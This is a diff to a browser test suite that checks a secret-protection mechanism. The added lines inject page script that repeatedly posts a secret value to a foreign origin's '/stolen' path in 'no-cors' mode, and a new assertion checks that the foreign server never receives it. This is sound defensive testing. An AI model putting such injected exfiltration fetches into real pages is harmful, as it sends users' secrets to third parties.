@@ -222,12 +222,18 @@ it.each([
   );
   const before = home.seen.length;
   const submit = async (): Promise<void> => {
-    await page.evaluate((outlives) => {
-      const how = { method: 'POST', body: 'p=lantern-42', keepalive: outlives };
-      const again = (): void => void fetch('/sign-in', how).catch(() => {});
-      again();
-      setInterval(again, 5);
-    }, keepalive);
+    await page.evaluate(
+      ({ outlives, elsewhere }) => {
+        const how = { method: 'POST', body: 'p=lantern-42', keepalive: outlives };
+        const again = (): void => void fetch('/sign-in', how).catch(() => {});
+        const there = (): void =>
+          void fetch(elsewhere, { ...how, mode: 'no-cors' }).catch(() => {});
+        again();
+        setInterval(again, 5);
+        setInterval(there, 40);
+      },
+      { outlives: keepalive, elsewhere: `${foreign.origin}/stolen` },
+    );
     // The form is refused, and an error page takes the place of the page that goes on.
     await page.getByRole('button').click({ noWaitAfter: true });
     await vi.waitUntil(() => page.url().startsWith('chrome-error:'), PATIENT);
@@ -235,6 +241,7 @@ it.each([
   await once([new Secret('lantern-42')], submit);
   await context.close();
   expect(home.seen.slice(before).filter((path) => path === '/sign-in')).toHaveLength(1);
+  expect(foreign.seen).not.toContain('/stolen');
 });
 
 it.each(['/repeats-307-here', '/repeats-308-there'])(
